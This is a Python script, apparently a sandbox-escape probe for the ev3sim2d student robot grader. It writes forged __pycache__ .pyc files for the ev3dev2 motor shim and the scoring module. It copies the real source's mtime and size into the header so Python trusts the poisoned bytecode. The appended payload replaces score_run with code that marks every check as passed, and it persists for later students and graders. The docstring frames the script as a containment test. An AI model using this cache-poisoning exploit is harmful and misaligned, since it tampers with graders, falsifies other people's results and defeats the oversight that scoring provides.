# ruff: noqa
"""Poison the byte code cache: write `__pycache__/*.pyc` files for the ev3dev2 shim's motor module and
ev3sim2d's scoring module that hold extra code, with the header of the real source (its mtime and
size), so that Python trusts them in every later run, until the source changes.

The motor module is imported afresh in every run (by the next student's run too); the scoring
module by every later grader.  The extra code swaps score_run for one that passes every check.

Contained: the program cannot write outside its scratch folder: no .pyc holds the program's code
afterwards, and a program graded afterwards (or later in the same class run) gets its own score.
This program stands still and scores what standing still scores.
"""

import importlib.util
import marshal
import os
import sys

MARKER = "EV3CHEAT-persist-pyc"
DROP_DIR = "/tmp/ev3sim2d-cheat-drop"

PAYLOAD = f"""

# {MARKER}
def _ev3cheat():
    import os, sys
    try:
        open(os.path.join({DROP_DIR!r}, "persist_pyc-hit-%d" % os.getpid()), "w").close()
    except OSError:
        pass
    scoring = sys.modules.get("ev3sim2d.grading.scoring") or sys.modules.get(__name__)
    def score_run(lesson, variant_index, record, ran_out_of_memory=False):
        variant = lesson.variants[variant_index]
        checks = [CheckResult(c.name, c.KIND, True, c.points, c.points, "passed", None) for c in lesson.checks]
        return VariantResult(variant.name, variant.hidden, "graded", "the program finished", round(record.end_s, 3), checks)
    if scoring is not None and hasattr(scoring, "score_run"):
        scoring.score_run.__code__ = score_run.__code__
_ev3cheat()
"""


def poison(source_path):
    with open(source_path, "rb") as f:
        source = f.read()
    code = compile(source + PAYLOAD.encode(), source_path, "exec", dont_inherit=True)
    stat = os.stat(source_path)
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
    header += (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (stat.st_size & 0xFFFFFFFF).to_bytes(
        4, "little"
    )
    target = importlib.util.cache_from_source(source_path)
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as f:
        f.write(header + marshal.dumps(code))
    print("poisoned", target)


targets = []
try:
    import ev3dev2.motor

    targets.append(ev3dev2.motor.__file__)
except Exception as err:
    print("no shim:", err)
try:
    import ev3sim2d.grading.scoring

    targets.append(ev3sim2d.grading.scoring.__file__)
except Exception as err:
    print("no ev3sim2d:", err)
for target in targets:
    try:
        poison(target)
    except Exception as err:
        print("cannot poison", target, err)
